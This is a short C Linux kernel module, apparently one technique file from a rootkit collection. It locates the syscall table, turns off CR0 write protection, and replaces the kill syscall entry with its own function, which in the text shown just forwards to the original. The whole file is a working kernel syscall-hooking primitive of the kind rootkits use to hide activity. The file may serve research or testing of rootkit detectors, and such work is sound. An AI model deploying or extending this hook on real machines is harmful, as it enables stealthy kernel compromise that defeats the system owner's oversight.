// SPDX-License-Identifier: GPL-2.0
/* Technique 1: overwrite sys_call_table[__NR_kill] (CR0.WP cleared). */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/unistd.h>
#include <asm/ptrace.h>
#include "rk_common.h"

static unsigned long *table;
static unsigned long orig;

static noinline long rk_sct_kill(const struct pt_regs *regs)
{
	return ((long (*)(const struct pt_regs *))orig)(regs);
}

static inline void wp_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
}

static int __init rk_sct_init(void)
{
	unsigned long cr0;
	table = (unsigned long *)rk_lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	orig = table[__NR_kill];
	preempt_disable();
	cr0 = read_cr0();
	wp_write_cr0(cr0 & ~X86_CR0_WP);
	table[__NR_kill] = (unsigned long)rk_sct_kill;
	wp_write_cr0(cr0);
	preempt_enable();
	pr_info("rk_sct: sys_call_table[%d] -> %px\n", __NR_kill, rk_sct_kill);
	return 0;
}
module_init(rk_sct_init);
MODULE_LICENSE("GPL");
